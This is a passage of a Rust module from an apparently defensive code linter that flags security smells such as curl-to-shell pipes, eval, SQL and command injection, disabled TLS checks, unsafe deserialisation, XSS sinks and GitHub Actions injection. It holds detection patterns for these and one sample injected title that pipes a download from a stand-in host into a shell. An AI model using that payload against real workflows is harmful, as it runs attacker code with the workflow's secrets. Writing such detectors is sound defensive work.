//! Security smells that are cheap to recognise on one line: piping a download into a
//! shell, `eval`/`exec`/`new Function` of strings, SQL built by string formatting, shell
//! commands built from variables, TLS verification turned off, unsafe deserialisation,
//! HTML sinks fed unescaped values, and GitHub Actions workflows that run untrusted
//! event data or check out a pull request's code with write permissions.

use regex::Regex;

use super::lang::{Class, Lang, StrLit, is_ident_byte, word_at};
use super::{FileCtx, Hit, LineCtx, Rule};

pub(super) const P_CURL: u32 = 1 << 15;
pub(super) const P_EVAL: u32 = 1 << 16;
pub(super) const P_SQL: u32 = 1 << 17;
pub(super) const P_CMD: u32 = 1 << 19;
pub(super) const P_TLS: u32 = 1 << 20;
pub(super) const P_ACTIONS: u32 = 1 << 21;
pub(super) const P_DESER: u32 = 1 << 22;
pub(super) const P_XSS: u32 = 1 << 23;

pub(super) const PREFILTER: &[(&str, u32)] = &[
    ("curl", P_CURL),
    ("wget", P_CURL),
    ("eval", P_EVAL),
    ("select", P_SQL),
    ("insert", P_SQL),
    ("update", P_SQL),
    ("delete", P_SQL),
    ("exec", P_EVAL),
    ("function", P_EVAL),
    ("shell=true", P_CMD),
    ("os.system", P_CMD),
    ("os.popen", P_CMD),
    ("execsync", P_CMD),
    ("child_process", P_CMD),
    ("shell_exec", P_CMD),
    ("passthru", P_CMD),
    ("system(", P_CMD),
    ("exec.command", P_CMD),
    ("verify", P_TLS),
    ("check_hostname", P_TLS),
    ("cert_none", P_TLS),
    ("_create_unverified_context", P_TLS),
    ("insecureskipverify", P_TLS),
    ("rejectunauthorized", P_TLS),
    ("node_tls_reject_unauthorized", P_TLS),
    ("danger_accept_invalid", P_TLS),
    ("noophostnameverifier", P_TLS),
    ("allow_all_hostname_verifier", P_TLS),
    ("${{", P_ACTIONS),
    ("pickle", P_DESER),
    ("dill.load", P_DESER),
    ("marshal.load", P_DESER),
    ("yaml.load", P_DESER),
    ("yaml.unsafe_load", P_DESER),
    ("unserialize(", P_DESER),
    ("innerhtml", P_XSS),
    ("outerhtml", P_XSS),
    ("insertadjacenthtml", P_XSS),
    ("document.write", P_XSS),
    ("v-html", P_XSS),
    ("mark_safe(", P_XSS),
];

pub(super) const HELP_CURL: &str = "A script downloaded with `curl`/`wget` is piped straight into a shell. Whatever the server (or anyone who can tamper with the connection, the DNS or the CDN) returns at that moment runs with the script's privileges, and nothing records what ran.\n\nDownload to a file, verify a pinned checksum or signature, then run it; or install from a package manager with a pinned version. Markdown and other documentation files are not checked.";
pub(super) const HELP_EVAL: &str = "`eval` runs a string as code. If any part of that string comes from input, a file, the network or the environment, an attacker can run arbitrary code; even when it does not, it defeats linters, type checkers and CSP.\n\nParse data with a real parser (`JSON.parse`, `ast.literal_eval`, `json_decode`), dispatch through a lookup table, or use `getattr`/`public_send`-style calls with an allow-list. Method calls that merely share the name — `model.eval()` in PyTorch, `ast.literal_eval`, `instance_eval` — are not reported.";
pub(super) const HELP_SQL: &str = "An SQL statement is assembled by string concatenation or interpolation (`+`, `.`, f-strings, `.format`, `%`, template literals, `format!`, `fmt.Sprintf`). If any interpolated value comes from a user, this is an SQL injection.\n\nUse a parameterised query and pass values separately — `cursor.execute(\"SELECT … WHERE id = %s\", (id,))`, `db.query(\"… WHERE id = $1\", [id])`, `sqlx::query(\"… WHERE id = ?\").bind(id)`, `db.Query(\"… WHERE id = ?\", id)`, or your ORM's query builder. Identifiers (table or column names) cannot be parameters: pick them from a fixed allow-list. Tagged templates such as ``sql`…${x}` `` escape their values and are not reported.";

pub(super) const HELP_CMD: &str = "A shell command is assembled from variables and run through a shell (`shell=True`, `os.system`, `child_process.exec`, PHP `shell_exec`/`system`, `sh -c`). If any part comes from input, a file name or the network, shell metacharacters in it (`;`, `$(…)`, backticks) run attacker-chosen commands.\n\nPass an argument list without a shell — `subprocess.run([\"git\", \"log\", ref])`, `execFile(\"git\", [\"log\", ref])`, `exec.Command(\"git\", \"log\", ref)` — or quote every value (`shlex.quote`, `escapeshellarg`). Constant commands and tests are not reported.";
pub(super) const HELP_TLS: &str = "TLS certificate (or host name) verification is turned off (`verify=False`, `InsecureSkipVerify: true`, `rejectUnauthorized: false`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `danger_accept_invalid_certs(true)`). Anyone on the network path can then impersonate the server and read or change the traffic, credentials included.\n\nRemove it. For a private CA, trust that CA instead (`verify=\"/path/ca.pem\"`, `RootCAs`, `ca:`, `add_root_certificate`). Tests are not reported.";
pub(super) const HELP_ACTIONS: &str = "A GitHub Actions `run:` (or `github-script` `script:`) expands `${{ … }}` data that whoever opens the issue, pull request, comment or branch controls (a title, a body, a branch name, a commit message). The expression is pasted into the script before it runs, so a title like `\"; curl evil.sh | sh; #` runs with the workflow's token and secrets.\n\nPass the value through an environment variable and quote it: `env: TITLE: ${{ github.event.issue.title }}` then `run: echo \"$TITLE\"`.";
pub(super) const HELP_PR_TARGET: &str = "A `pull_request_target` workflow checks out the pull request's head. `pull_request_target` runs with the base repository's secrets and a write token; building or running code from the pull request in it (install scripts, tests, build steps) hands both to anyone who opens a pull request (a \"pwn request\").\n\nUse the `pull_request` trigger for anything that runs the contributor's code, or split the work: an unprivileged `pull_request` workflow builds, and a `workflow_run` workflow with privileges only reads its artifacts.";
pub(super) const HELP_DESER: &str = "Data is deserialised with a format that can construct arbitrary objects (`pickle`, `dill`, `marshal`, `yaml.load` without a safe loader, PHP `unserialize`, Ruby `Marshal.load`). Loading attacker-controlled bytes this way runs code.\n\nUse a data-only format (JSON), `yaml.safe_load`, PHP `unserialize($s, ['allowed_classes' => false])` or `json_decode`; keep pickles to files you wrote yourself. Tests are not reported.";
pub(super) const HELP_XSS: &str = "A value goes into HTML without escaping (`innerHTML =`, `outerHTML`, `insertAdjacentHTML`, `document.write`, React `dangerouslySetInnerHTML`, Vue `v-html`, Django `mark_safe`). If the value can contain user input, that is cross-site scripting.\n\nSet `textContent`, let the framework escape (`{value}`, `{{ value }}`), or sanitise with a maintained sanitiser (DOMPurify) first. Literal HTML and values passed through a sanitiser are not reported.";

pub(super) struct Security {
    curl_subst: Regex,
    sql: Regex,
    sql_extra: Regex,
    fmt_placeholder: Regex,
    printf_verb: Regex,
    tls: Regex,
    actions_untrusted: Regex,
    pr_head: Regex,
    new_function: Regex,
}

impl Security {
    pub(super) fn new() -> Security {
        let re = super::builtin_regex;
        Security {
            curl_subst: re(
                r"\b(?:ba|z|da|k)?sh\s+(?:-[a-zA-Z]+\s+)*(?:<\(\s*|-c\s+[\x22']?\$\(\s*)(?:curl|wget)\b",
            ),
            sql: re(
                r"(?i)\b(?:(select)\s+(?:distinct\s+)?[\w*.,\s()\x22`\[\]]+?\s+from\s+[\w.\x22`\[{$%#]|(insert)\s+into\s+[\w.\x22`\[{$%#]|(update)\s+[\w.\x22`\[\]{}$%#]+\s+set\s+[\w\x22`\[]|(delete)\s+from\s+[\w.\x22`\[{$%#])",
            ),
            sql_extra: re(
                r"(?i)\b(?:where|values|join|order\s+by|group\s+by|limit|returning|set)\b|[*=?]|%s|\$\d",
            ),
            fmt_placeholder: re(r"\{[^{}]*\}"),
            printf_verb: re(r"%[-+# 0-9.]*[svdqxXfg]"),
            tls: re(
                r"(?i)(\bverify\s*=\s*False\b|\bcheck_hostname\s*=\s*False\b|\bcert_reqs\s*=\s*(?:ssl\.)?CERT_NONE\b|\bssl\._create_unverified_context\b|\bInsecureSkipVerify\s*:\s*true\b|\brejectUnauthorized\s*:\s*false\b|\bNODE_TLS_REJECT_UNAUTHORIZED\b['\x22]?\s*[:=]\s*['\x22]?0\b|\bdanger_accept_invalid_(?:certs|hostnames)\s*\(\s*true\s*\)|\bNoopHostnameVerifier\b|\bALLOW_ALL_HOSTNAME_VERIFIER\b)",
            ),
            actions_untrusted: re(
                r"\$\{\{[^}]*?\b(github\.head_ref|github\.event\.(?:issue|pull_request|comment|review|review_comment|discussion|discussion_comment|pages|commits|head_commit|workflow_run)\b[\w.*\[\]-]*?\.(?:title|body|message|ref|label|head_branch|page_name|email|name|default_branch|display_title))\b",
            ),
            pr_head: re(
                r"\$\{\{\s*(github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref)\s*\}\}|refs/pull/\$\{\{[^}]*\}\}/(?:head|merge)",
            ),
            new_function: re(r"\bnew\s+Function\s*\("),
        }
    }

    pub(super) fn check(
        &self,
        mask: u32,
        file: &FileCtx<'_>,
        line: &LineCtx<'_>,
        out: &mut Vec<Hit>,
    ) {
        if mask & P_CURL != 0 && self.curl_pipe(file, line) {
            out.push(Hit {
                rule: Rule::SecurityCurlPipeShell,
                title: "Downloaded script piped straight into a shell".into(),
                suggestion: None,
                body: None,
            });
        }
        if mask & P_EVAL != 0 && !file.test {
            let name = file.path.rsplit('/').next().unwrap_or("");
            // Ruby build files evaluate the repository's own gemspec
            // (`eval(File.read("x.gemspec"))`), as `setup.py` execs its version file.
            let ruby_build = file.lang == Lang::Ruby
                && (name == "Rakefile"
                    || name == "Gemfile"
                    || name.ends_with(".rake")
                    || name.ends_with(".gemspec"));
            let call =
                if file.lang.has_eval() && !ruby_build && global_call(file.lang, line, "eval") {
                    Some("eval")
                } else if file.lang == Lang::Python
                // `exec(open("pkg/version.py").read())` in packaging and docs config.
                && !matches!(name, "setup.py" | "conf.py")
                && global_call(file.lang, line, "exec")
                {
                    Some("exec")
                } else if file.lang == Lang::JavaScript
                    && self
                        .new_function
                        .find_iter(line.text)
                        .any(|m| line.lexed.is_code(m.start()))
                {
                    Some("new Function")
                } else {
                    None
                };
            if let Some(call) = call {
                out.push(Hit {
                    rule: Rule::SecurityEval,
                    title: format!("`{call}` of a string runs arbitrary code"),
                    suggestion: None,
                    body: None,
                });
            }
        }
        if file.test {
            return;
        }
        let hit = |rule: Rule, title: String, suggestion: Option<String>| Hit {
            rule,
            title,
            suggestion,
            body: None,
        };
        if mask & P_CMD != 0
            && let Some(what) = command_injection(file.lang, line)
        {
            out.push(hit(
                Rule::SecurityCommandInjection,
                format!("`{what}` runs a shell command built from variables"),
                None,
            ));
        }
        if mask & P_TLS != 0
            && !matches!(file.lang, Lang::Prose | Lang::Markup)
            && let Some(m) = self.tls.find_iter(line.text).find(|m| {
                !line
                    .lexed
                    .class
                    .get(m.start())
                    .is_some_and(|c| *c == Class::Comment)
            })
        {
            let what: String = m.as_str().split_whitespace().collect::<Vec<_>>().join(" ");
            // The implementation of a caller's own `verify` option (`if not verify:` then
            // `ctx.check_hostname = False`) is not a decision to skip verification.
            let conditional = |p: &str| {
                let p = p.trim_start();
                p.starts_with("if ")
                    || p.starts_with("if(")
                    || p.starts_with("elif ")
                    || p.starts_with("else")
                    // The end of a multi-line condition: `if (\n …\n):`.
                    || p.starts_with("):")
            };
            let implements_option = line
                .opener
                .is_some_and(|p| conditional(p) && p.to_ascii_lowercase().contains("verify"));
            // Python's `ssl` settings assigned under a condition are a TLS library (or a
            // client) implementing its caller's choice (`if cert_reqs == CERT_NONE:` …
            // `context.check_hostname = False`), and `self.check_hostname = False` is
            // the attribute default of an `SSLContext`-like class: not a decision to skip
            // verification. An unconditional `ctx.check_hostname = False` still is.
            let setting = what.starts_with("check_hostname") || what.starts_with("cert_reqs");
            let python_setting = file.lang == Lang::Python
                && setting
                && (line.opener.is_some_and(conditional)
                    || line.text.trim_start().starts_with("self.check_hostname"));
            // `verify=False` only matters where it goes to an HTTP client.
            let http_call = what != "verify=False" || verify_goes_to_http(line.text, m.start());
            if !implements_option && !python_setting && http_call {
                // `verify=False` as a keyword argument: dropping it restores verification.
                let suggestion = (file.lang == Lang::Python && what == "verify=False")
                    .then(|| drop_kwarg(line.text, m.start(), m.end()))
                    .flatten();
                out.push(hit(
                    Rule::SecurityTlsVerifyOff,
                    format!("`{what}` turns off TLS certificate verification"),
                    suggestion,
                ));
            }
        }
        if mask & P_ACTIONS != 0 && file.workflow {
            if line.yaml_script
                && let Some(c) = self.actions_untrusted.captures(line.text)
            {
                let expr = c.get(1).map_or("", |m| m.as_str());
                out.push(hit(
                    Rule::SecurityActionsInjection,
                    format!("`${{{{ {expr} }}}}` is pasted into a workflow script"),
                    None,
                ));
            }
            if file.pr_target
                && !line.text.trim_start().starts_with('#')
                && let Some(c) = self.pr_head.captures(line.text)
            {
                let expr = c.get(1).map_or("refs/pull/…", |m| m.as_str());
                out.push(hit(
                    Rule::SecurityPrTargetCheckout,
                    format!(
                        "`pull_request_target` workflow checks out the pull request head (`{expr}`)"
                    ),
                    None,
                ));
            }
        }
        if mask & P_DESER != 0
            && let Some((what, suggestion)) = unsafe_deserialization(file.lang, line)
        {
            out.push(hit(
                Rule::SecurityUnsafeDeserialization,
                format!("`{what}` can run code from the data it loads"),
                suggestion,
            ));
        }
        if mask & P_XSS != 0
            && let Some(what) = xss_sink(file.lang, line)
        {
            out.push(hit(
                Rule::SecurityXssSink,
                format!("`{what}` gets a value without escaping"),
                None,
            ));
        }
        if mask & P_SQL != 0
            && !file.test
            && file.lang.is_programming()
            && let Some(how) = self.sql_concat(file.lang, line)
        {
            out.push(Hit {
                rule: Rule::SecuritySqlConcat,
                title: format!("SQL query built with {how}: possible SQL injection"),
                suggestion: None,
                body: None,
            });
        }
    }

    fn curl_pipe(&self, file: &FileCtx<'_>, line: &LineCtx<'_>) -> bool {
        if file.test || matches!(file.lang, Lang::Prose | Lang::Markup) {
            return false;
        }
        let text = line.text;
        // A hint printed to the user (`$(warning … run: curl … | sh)`, `echo "…"`).
        let t = text.trim_start().trim_start_matches(['-', '@', '\t', ' ']);
        if ["$(warning", "$(info", "$(error", "echo ", "printf "]
            .iter()
            .any(|m| t.starts_with(m))
        {
            return false;
        }
        let lx = line.lexed;
        let not_comment = |i: usize| lx.class.get(i) != Some(&super::lang::Class::Comment);
        if let Some(m) = self.curl_subst.find(text)
            && not_comment(m.start())
        {
            return true;
        }
        for word in ["curl", "wget"] {
            for (p, _) in text.match_indices(word) {
                if !word_at(text, p, word) || !not_comment(p) {
                    continue;
                }
                // The pipeline that starts here, up to the end of the command.
                let rest = &text[p..];
                let end = [";", "&&", "||", "`", "\"", "'", ")"]
                    .iter()
                    .filter_map(|s| rest.find(s))
                    .min()
                    .unwrap_or(rest.len());
                let pipeline = &rest[..end];
                if pipeline.split('|').skip(1).any(is_shell_command) {
                    return true;
                }
            }
        }
        false
    }

    /// How the SQL on this line is assembled, when it is assembled from strings.
    fn sql_concat(&self, lang: Lang, line: &LineCtx<'_>) -> Option<&'static str> {
        let text = line.text;
        let lx = line.lexed;
        let lits: Vec<&StrLit> = lx.strings.iter().filter(|s| !s.char_lit).collect();
        if lits.is_empty() || lx.is_comment_only(text) {
            return None;
        }
        let mut joined = String::new();
        for s in &lits {
            joined.push_str(&text[s.content_start..s.content_end]);
            joined.push(' ');
        }
        let m = self.sql.captures(&joined)?;
        let keyword = (1..=4).find_map(|i| m.get(i)).map_or("", |k| k.as_str());
        // A table name filled in at run time (`FROM {table}`) is an identifier, which
        // cannot be a parameter: only a second interpolated part (a value) makes it
        // injectable as written.
        let whole = m.get(0)?;
        let dynamic_table = joined[..whole.end()]
            .chars()
            .next_back()
            .is_some_and(|c| "{$%#".contains(c))
            || whole.as_str().contains(['{', '$', '%']);
        if dynamic_table {
            let count = |p: &str| joined.matches(p).count();
            let parts = count("{")
                .saturating_sub(2 * count("{{"))
                .max(count("$"))
                .max(count("%"))
                .max(count("#{"));
            if parts < 2 {
                return None;
            }
        }
        // Lower-case SQL must look like more than an English sentence.
        if keyword.bytes().any(|b| b.is_ascii_lowercase())
            && !self.sql_extra.is_match(&joined[m.get(0)?.end()..])
        {
            return None;
        }
        let b = text.as_bytes();
        let next_code = |from: usize| {
            let mut j = from;
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            j
        };
        let prev_code = |to: usize| {
            let mut j = to;
            while j > 0 && b[j - 1].is_ascii_whitespace() {
                j -= 1;
            }
            j
        };
        let is_lit_start =
            |j: usize| lx.string_at(j).is_some() || (j < b.len() && b[j].is_ascii_digit());
        let is_lit_end =
            |j: usize| j > 0 && (lits.iter().any(|s| s.end == j) || b[j - 1].is_ascii_digit());
        for s in &lits {
            let content = &text[s.content_start..s.content_end];
            if s.interp {
                let interpolates = match lang {
                    Lang::Python | Lang::CSharp => self
                        .fmt_placeholder
                        .is_match(&content.replace("{{", "").replace("}}", "")),
                    Lang::JavaScript => content.contains("${"),
                    Lang::Ruby => content.contains("#{"),
                    Lang::Php | Lang::Kotlin => php_kotlin_interp(content),
                    _ => false,
                };
                if interpolates {
                    return Some(match lang {
                        Lang::Python => "an f-string",
                        Lang::JavaScript => "a template literal",
                        _ => "string interpolation",
                    });
                }
            }
            // `"…" + x`, `x + "…"` (and PHP's `.`)
            let after = next_code(s.end);
            let before = prev_code(s.start);
            let concat_ops: &[u8] = if lang == Lang::Php { b"." } else { b"+" };
            if after < b.len() && concat_ops.contains(&b[after]) && b.get(after + 1) != Some(&b'+')
            {
                let operand = next_code(after + 1 + usize::from(b.get(after + 1) == Some(&b'=')));
                if operand < b.len() && !is_lit_start(operand) {
                    return Some("string concatenation");
                }
            }
            if before > 0 && concat_ops.contains(&b[before - 1]) {
                let op = before - 1;
                let assign = op + 1 < b.len() && b[op + 1] == b'=';
                let operand = prev_code(op);
                // `x + "…"` or `$sql .= "… $x"` handled above; `q += "…" + x` too.
                if !assign
                    && operand > 0
                    && !is_lit_end(operand)
                    && (is_ident_byte(b[operand - 1]) || b")]".contains(&b[operand - 1]))
                {
                    return Some("string concatenation");
                }
            }
            // Python `"…" % args` and `"…".format(…)`
            if lang == Lang::Python {
                if after < b.len() && b[after] == b'%' && b.get(after + 1) != Some(&b'=') {
                    let operand = next_code(after + 1);
                    if operand < b.len() && !is_lit_start(operand) {
                        return Some("`%` formatting");
                    }
                }
                if text[after..].starts_with(".format(") {
                    return Some("`.format()`");
                }
            }
        }
        // Formatting macros and functions whose format string holds the SQL.
        let formats = |needle: &str| lx.code_contains(text, needle);
        match lang {
            Lang::Rust
                if ["format!(", "format_args!(", "write!(", "writeln!("]
                    .iter()
                    .any(|n| formats(n)) =>
            {
                let any = lits.iter().any(|s| {
                    let c = text[s.content_start..s.content_end]
                        .replace("{{", "")
                        .replace("}}", "");
                    self.sql.is_match(&c) && self.fmt_placeholder.is_match(&c)
                });
                any.then_some("`format!`")
            }
            Lang::Go if formats("Sprintf(") || formats("Fprintf(") => lits
                .iter()
                .any(|s| {
                    self.printf_verb
                        .is_match(&text[s.content_start..s.content_end])
                })
                .then_some("`fmt.Sprintf`"),
            Lang::Java | Lang::Kotlin if formats("String.format(") || formats(".formatted(") => {
                lits.iter()
                    .any(|s| {
                        self.printf_verb
                            .is_match(&text[s.content_start..s.content_end])
                    })
                    .then_some("`String.format`")
            }
            Lang::CSharp if formats("string.Format(") || formats("String.Format(") => {
                Some("`string.Format`")
            }
            Lang::C if formats("printf(") => lits
                .iter()
                .any(|s| {
                    self.printf_verb
                        .is_match(&text[s.content_start..s.content_end])
                })
                .then_some("`printf` formatting"),
            Lang::Php if formats("sprintf(") => lits
                .iter()
                .any(|s| {
                    self.printf_verb
                        .is_match(&text[s.content_start..s.content_end])
                })
                .then_some("`sprintf`"),
            _ => None,
        }
    }
}

/// `$name` / `{$…}` / `${…}` inside a PHP or Kotlin double-quoted string.
fn php_kotlin_interp(content: &str) -> bool {
    let b = content.as_bytes();
    b.iter().enumerate().any(|(i, &c)| {
        c == b'$'
            && (i == 0 || b[i - 1] != b'\\')
            && b.get(i + 1)
                .is_some_and(|&n| n == b'{' || n == b'_' || n.is_ascii_alphabetic())
    }) || content.contains("{$")
}

/// After a `|`: is the command a shell (`sh`, `sudo bash -`, `/bin/sh -s`, `env X=1 sh`)?
fn is_shell_command(cmd: &str) -> bool {
    let mut words = cmd.split_whitespace().peekable();
    // `||` splits into an empty command: logical or, not a pipe.
    let Some(mut w) = words.next() else {
        return false;
    };
    loop {
        if w == "sudo"
            || w == "env"
            || w == "exec"
            || w == "nohup"
            || w.starts_with('-')
            || w.contains('=')
        {
            match words.next() {
                Some(next) => w = next,
                None => return false,
            }
            continue;
        }
        break;
    }
    let name = w.rsplit('/').next().unwrap_or(w);
    matches!(name, "sh" | "bash" | "zsh" | "dash" | "ksh" | "fish")
}

/// A call of the global `word` (`eval`, `exec`; not a method or a longer identifier).
fn global_call(lang: Lang, line: &LineCtx<'_>, word: &str) -> bool {
    let text = line.text;
    let b = text.as_bytes();
    for p in line.lexed.find_code(text, word) {
        if p > 0 && (is_ident_byte(b[p - 1]) || b"$.@:>\\".contains(&b[p - 1])) {
            continue; // `model.eval`, `literal_eval`, `$eval`, `obj->eval`, `A::eval`
        }
        let after = p + word.len();
        if b.get(after).is_some_and(|&c| is_ident_byte(c)) {
            continue; // `evaluate`
        }
        let rest = text[after..].trim_start();
        let called = rest.starts_with('(')
            || (lang == Lang::Ruby
                && after < b.len()
                && b[after] == b' '
                && rest.starts_with(|c: char| {
                    c == '"' || c == '\'' || c == '@' || c.is_ascii_lowercase()
                })
                && !rest.starts_with("if ")
                && !rest.starts_with("unless ")
                && !rest.starts_with("do")
                && !rest.starts_with("="));
        if !called {
            continue;
        }
        // A definition, not a call: `def eval(`, `function eval(`, `fn eval(`.
        let before = text[..p].trim_end();
        if ["def", "function", "fn", "func", "async function"]
            .iter()
            .any(|kw| before.ends_with(kw) && word_at(before, before.len() - kw.len(), kw))
        {
            continue;
        }
        // JS method shorthand in a class or object: `eval(x) {`
        if lang == Lang::JavaScript && before.is_empty() && rest.trim_end().ends_with('{') {
            continue;
        }
        return true;
    }
    false
}

/// The argument text of the call whose `(` is at `open`: up to the matching `)` or the
/// end of the line.
fn call_args(text: &str, open: usize) -> &str {
    let mut depth = 0i32;
    for (i, c) in text[open..].char_indices() {
        match c {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return &text[open + 1..open + i];
                }
            }
            _ => {}
        }
    }
    &text[(open + 1).min(text.len())..]
}

/// Is the first argument (starting at byte `at` of the line) built at run time: an
/// interpolating literal, a concatenation, `%`/`.format` formatting, or a variable?
fn dynamic_first_arg(lang: Lang, line: &LineCtx<'_>, at: usize) -> bool {
    let text = line.text;
    let rest = &text[at..];
    let skip = rest.len() - rest.trim_start().len();
    let start = at + skip;
    let Some(&first) = text.as_bytes().get(start) else {
        return false;
    };
    let lit = line.lexed.strings.iter().find(|s| s.start == start);
    match lit {
        Some(s) => {
            let content = &text[s.content_start..s.content_end];
            let interpolates = s.interp
                && match lang {
                    Lang::Python => content.contains('{'),
                    Lang::JavaScript => content.contains("${"),
                    Lang::Ruby => content.contains("#{"),
                    Lang::Php => php_kotlin_interp(content),
                    _ => false,
                };
            let after = text[s.end.min(text.len())..].trim_start();
            interpolates
                || after.starts_with('+')
                || (lang == Lang::Php && after.starts_with('.'))
                || (lang == Lang::Python
                    && (after.starts_with('%') || after.starts_with(".format(")))
        }
        // A variable or a call: the command comes from somewhere else.
        None => first.is_ascii_alphabetic() || first == b'_' || first == b'$',
    }
}

/// A shell command built at run time, as the call that runs it.
fn command_injection(lang: Lang, line: &LineCtx<'_>) -> Option<&'static str> {
    let text = line.text;
    let lx = line.lexed;
    let code_call = |name: &str| {
        lx.find_code(text, name).find(|&p| {
            p == 0
                || !(is_ident_byte(text.as_bytes()[p - 1]) || text.as_bytes()[p - 1] == b'.')
                || name.contains('.')
        })
    };
    let arg_dynamic = |p: usize, name: &str| {
        let open = p + name.len() - 1;
        let args = call_args(text, open);
        !args.contains("shlex.quote")
            && !args.contains("escapeshellarg")
            && !args.contains("escapeshellcmd")
            && dynamic_first_arg(lang, line, open + 1)
    };
    match lang {
        Lang::Python => {
            for name in ["os.system(", "os.popen("] {
                if let Some(p) = code_call(name)
                    && arg_dynamic(p, name)
                {
                    return Some(if name == "os.system(" {
                        "os.system"
                    } else {
                        "os.popen"
                    });
                }
            }
            let compact: String = text.split_whitespace().collect();
            if compact.contains("shell=True") {
                for name in [
                    "subprocess.run(",
                    "subprocess.call(",
                    "subprocess.Popen(",
                    "subprocess.check_output(",
                    "subprocess.check_call(",
                    "subprocess.getoutput(",
                ] {
                    if let Some(p) = code_call(name)
                        && arg_dynamic(p, name)
                    {
                        return Some("shell=True");
                    }
                }
            }
            None
        }
        Lang::JavaScript => {
            for name in [
                "child_process.exec(",
                "child_process.execSync(",
                "execSync(",
            ] {
                if let Some(p) = code_call(name)
                    && arg_dynamic(p, name)
                {
                    return Some(if name.contains("Sync") {
                        "execSync"
                    } else {
                        "child_process.exec"
                    });
                }
            }
            None
        }
        Lang::Php => {
            for name in ["shell_exec(", "system(", "passthru(", "exec(", "popen("] {
                if let Some(p) = code_call(name)
                    && (p == 0 || !is_ident_byte(text.as_bytes()[p - 1]))
                    && !text[..p].trim_end().ends_with("->")
                    && !text[..p].trim_end().ends_with("::")
                    && arg_dynamic(p, name)
                {
                    return Some(match name {
                        "shell_exec(" => "shell_exec",
                        "system(" => "system",
                        "passthru(" => "passthru",
                        "exec(" => "exec",
                        _ => "popen",
                    });
                }
            }
            None
        }
        Lang::Go => {
            let p = code_call("exec.Command(")?;
            let args = call_args(text, p + "exec.Command(".len() - 1);
            let mut parts = args.splitn(3, ',');
            let shell = parts.next()?.trim().trim_matches('"');
            let flag = parts.next()?.trim().trim_matches('"');
            let script = parts.next()?.trim();
            (matches!(shell, "sh" | "bash" | "/bin/sh" | "/bin/bash" | "zsh")
                && flag == "-c"
                && !script.starts_with('"')
                && !script.starts_with('`'))
            .then_some("exec.Command(\"sh\", \"-c\", …)")
        }
        _ => None,
    }
}

/// `, verify=False` (or `verify=False, `) removed from the line, when that is all the
/// line needs.
fn drop_kwarg(text: &str, start: usize, end: usize) -> Option<String> {
    let before = &text[..start];
    let after = &text[end..];
    let b = before.trim_end();
    if let Some(b2) = b.strip_suffix(',') {
        return Some(format!("{}{}", b2, after));
    }
    let a = after.trim_start();
    if let Some(a2) = a.strip_prefix(',') {
        return Some(format!("{}{}", before, a2.trim_start()));
    }
    None
}

/// Deserialisation that can construct arbitrary objects, with the `yaml.safe_load`
/// replacement line when the fix is that mechanical.
fn unsafe_deserialization(
    lang: Lang,
    line: &LineCtx<'_>,
) -> Option<(&'static str, Option<String>)> {
    let text = line.text;
    let lx = line.lexed;
    let at = |name: &str| {
        lx.find_code(text, name)
            .find(|&p| p == 0 || !is_ident_byte(text.as_bytes()[p - 1]))
    };
    match lang {
        Lang::Python => {
            for (name, what) in [
                ("pickle.loads(", "pickle.loads"),
                ("pickle.load(", "pickle.load"),
                ("cPickle.loads(", "cPickle.loads"),
                ("cPickle.load(", "cPickle.load"),
                ("dill.loads(", "dill.loads"),
                ("dill.load(", "dill.load"),
                ("marshal.loads(", "marshal.loads"),
                ("marshal.load(", "marshal.load"),
                ("yaml.unsafe_load(", "yaml.unsafe_load"),
            ] {
                if at(name).is_some() {
                    return Some((what, None));
                }
            }
            let p = at("yaml.load(")?;
            let open = p + "yaml.load(".len() - 1;
            let args = call_args(text, open);
            let compact: String = args.split_whitespace().collect();
            if compact.contains("SafeLoader") || compact.contains("BaseLoader") {
                return None;
            }
            // Still open on the next line: the loader may be there.
            let closed = text[open..].contains(')');
            if !closed && !compact.contains("Loader=") {
                return None;
            }
            let suggestion = (!compact.contains(',') && closed)
                .then(|| text.replacen("yaml.load(", "yaml.safe_load(", 1));
            Some(("yaml.load", suggestion))
        }
        Lang::Php => {
            // PHP's function, not a method of the same name (`$this->unserialize(…)`, a
            // class's own wrapper) nor its definition (`function unserialize(`).
            let p = lx.find_code(text, "unserialize(").find(|&p| {
                let before = text[..p].trim_end();
                (p == 0 || !is_ident_byte(text.as_bytes()[p - 1]))
                    && !before.ends_with("->")
                    && !before.ends_with("::")
                    && !before.ends_with("function")
            })?;
            let args = call_args(text, p + "unserialize(".len() - 1);
            (!args.contains("allowed_classes")).then_some(("unserialize", None))
        }
        Lang::Ruby => at("Marshal.load(")
            .or_else(|| at("Marshal.load "))
            .map(|_| ("Marshal.load", None)),
        _ => None,
    }
}

/// An HTML sink fed a value that is not a plain literal.
fn xss_sink(lang: Lang, line: &LineCtx<'_>) -> Option<&'static str> {
    let text = line.text;
    let lx = line.lexed;
    let sanitised = |s: &str| {
        let l = s.to_ascii_lowercase();
        l.contains("sanitize")
            || l.contains("purify")
            || l.contains("escape")
            // A Trusted Types policy is the sanctioned way to a sink.
            || l.contains("trustedhtml")
            || l.contains("createhtml(")
    };
    // The value starting at `at`: dynamic unless a plain literal or empty.
    let dynamic_value = |at: usize| {
        let rest = text[at..].trim_start();
        if rest.is_empty() || sanitised(rest) {
            return false;
        }
        let start = text.len() - rest.len();
        match lx.strings.iter().find(|s| s.start == start) {
            Some(s) => {
                let content = &text[s.content_start..s.content_end];
                let interpolates = s.interp && (content.contains("${") || content.contains('{'));
                let after = text[s.end.min(text.len())..].trim_start();
                interpolates || after.starts_with('+')
            }
            None => rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_' || c == '$'),
        }
    };
    match lang {
        Lang::JavaScript => {
            for (name, what) in [(".innerHTML", "innerHTML"), (".outerHTML", "outerHTML")] {
                for p in lx.find_code(text, name) {
                    let after = text[p + name.len()..].trim_start();
                    let op_len = if after.starts_with("+=") {
                        2
                    } else if after.starts_with('=') && !after.starts_with("==") {
                        1
                    } else {
                        continue;
                    };
                    let at = text.len() - after.len() + op_len;
                    // Markup copied from a DOM node (`a.innerHTML = b.outerHTML`) is
                    // already in the page: nothing is parsed that was not there.
                    let value = text[at..].trim().trim_end_matches(';');
                    let copies_markup = (value.ends_with(".outerHTML")
                        || value.ends_with(".innerHTML"))
                        && value[..value.len() - ".outerHTML".len()]
                            .bytes()
                            .all(|b| is_ident_byte(b) || b == b'.');
                    if dynamic_value(at) && !copies_markup {
                        return Some(what);
                    }
                }
            }
            for (name, what) in [
